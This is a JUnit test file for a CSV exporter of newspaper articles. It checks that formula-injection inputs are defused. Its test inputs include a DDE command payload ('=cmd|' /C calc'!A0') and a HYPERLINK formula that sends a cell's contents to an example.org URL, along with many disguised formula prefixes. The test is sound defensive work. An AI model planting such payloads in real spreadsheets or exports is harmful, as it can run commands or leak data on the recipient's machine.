package org.soubao.server;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.StringReader;
import java.io.StringWriter;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.soubao.Ingest;
import org.soubao.internal.format.article.Cells;
import org.soubao.model.Article;
import org.soubao.model.Contributor;
import org.soubao.model.Kind;
import org.soubao.model.Origin;
import org.soubao.model.Place;
import org.soubao.model.Source;

class CsvTableTest {
  private static final String BASE = "https://example.org/soubao";

  private static String table(Article... articles) throws IOException {
    StringWriter out = new StringWriter();
    CsvTable table = CsvTable.begin(out, BASE);
    for (Article article : articles) {
      table.add(article);
    }
    table.end();
    return out.toString();
  }

  private static List<CSVRecord> rows(String table) throws IOException {
    CSVFormat format = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get();
    try (CSVParser parser = CSVParser.parse(new StringReader(table.substring(1)), format)) {
      return parser.getRecords();
    }
  }

  /** The text in every field that takes any. */
  private static Article everywhere(String text) {
    return Article.builder(text, text)
        .newspaper(text)
        .place(new Place(text, text))
        .page(text)
        .section(text)
        .kicker(text)
        .headline(text)
        .deck(text)
        .contributors(List.of(new Contributor(text, null)))
        .credit(text)
        .dateline(text)
        .agency(text)
        .source(new Source(text, List.of()))
        .build();
  }

  @Test
  void everyFieldHasItsColumn() throws IOException {
    Article article =
        Article.builder("桥/1", "第一段，\"两岸\"。\n第二段。")
            .newspaper("青河晚报")
            .place(new Place("广西壮族自治区", "柳州市"))
            .date(LocalDate.of(2025, 2, 24))
            .page("A01")
            .section("要闻")
            .kicker("肩题")
            .headline("望江新桥通车")
            .deck("副题")
            .contributors(List.of(new Contributor("温堃祎", null), new Contributor("祝砚", null)))
            .credit("记者 温堃祎 祝砚")
            .dateline("本报讯")
            .agency("某社")
            .origin(Origin.WIRE)
            .originStated(Origin.STAFF)
            .kind(Kind.PHOTO_STORY)
            .source(new Source("a/b.txt", List.of()))
            .build();
    String table = table(article);
    assertThat(table)
        .isEqualTo(
            "\uFEFFid,newspaper,province,city,date,page,section,kicker,headline,deck,byline,credit,"
                + "dateline,agency,origin,originStated,kind,body,source,link\r\n"
                + "桥/1,青河晚报,广西壮族自治区,柳州市,2025-02-24,A01,要闻,肩题,望江新桥通车,副题,温堃祎、祝砚,"
                + "记者 温堃祎 祝砚,本报讯,某社,wire,staff,photo story,\"第一段，\"\"两岸\"\"。\n第二段。\",a/b.txt,"
                + BASE
                + "/?article=%E6%A1%A5%2F1\r\n");
    assertThat(rows(table).getFirst().get("body")).isEqualTo(article.body());
  }

  @Test
  void whatIsNotKnownIsEmpty() throws IOException {
    Map<String, String> row = rows(table(Article.builder("a", "正文。").build())).getFirst().toMap();
    assertThat(row.keySet()).containsExactlyInAnyOrderElementsOf(CsvTable.COLUMNS);
    assertThat(row.get("date")).isEmpty();
    assertThat(row.get("newspaper")).isEmpty();
    assertThat(row.get("source")).isEmpty();
    assertThat(row.get("headline")).isEqualTo("正文");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "\ttext",
        "＝1",
        "＋1",
        "－1",
        "＠1",
        " =1",
        "\u3000=1",
        "\u00A0＝1",
        "\u200B=1",
        "\uFEFF=1",
        "\u0000=1",
        "\u2212 1",
        "﹦1",
        "=HYPERLINK(\"http://example.org/?\"&A1,\"看\")",
        "=cmd|' /C calc'!A0",
        "\"\n=1\",=1",
      })
  void noCellOfAnyFieldIsAFormula(String text) throws IOException {
    for (CSVRecord row : rows(table(everywhere(text)))) {
      CsvTable.COLUMNS.stream()
          .filter(name -> !List.of("date", "origin", "originStated", "kind", "link").contains(name))
          .forEach(name -> {
            String cell = row.get(name);
            assertThat(cell).as(name).endsWith(text.stripTrailing().substring(text.length() - 1));
            boolean quoted = text.startsWith("\"");
            assertThat(cell.charAt(0)).as(name).isEqualTo(quoted ? '"' : '\'');
          });
      assertThat(row.get("link")).startsWith(BASE + "/?article=");
      assertThat(row.size()).isEqualTo(CsvTable.COLUMNS.size());
    }
  }

  @ParameterizedTest
  @ValueSource(strings = {"1=1", "——望江", "“=1”", "", "'=1", "a\n=1", "《=》", "·=", "3-1", "—"})
  void whatIsNoneStaysAsItIs(String text) {
    assertThat(Cells.harmless(text)).isEqualTo(text);
  }

  @Test
  void whatWasWrittenCanBeIngestedAgain(@TempDir Path folder) throws IOException {
    Article article =
        Article.builder("甲-1", "=1+1 渡口\n\"复航\"，昨日。")
            .newspaper("青石晚报")
            .place(new Place("广西壮族自治区", "柳州市"))
            .date(LocalDate.of(2025, 2, 24))
            .page("A05")
            .section("要闻")
            .headline("@渡口")
            .contributors(List.of(new Contributor("林知远", null), new Contributor("方亮", null)))
            .agency("新华社")
            .origin(Origin.WIRE)
            .kind(Kind.NOTICE)
            .source(new Source("青石晚报/2025-02-24/A05.txt", List.of()))
            .build();
    Path file = Files.writeString(folder.resolve("export.csv"), table(article));
    List<Article> back = new ArrayList<>();
    assertThat(Ingest.from(file).to(back::add).rejected()).isEmpty();
    assertThat(back)
        .singleElement()
        .satisfies(one -> assertThat(table(one)).isEqualTo(table(article)))
        .satisfies(one -> assertThat(one.source()).isEqualTo(article.source()));
  }
}
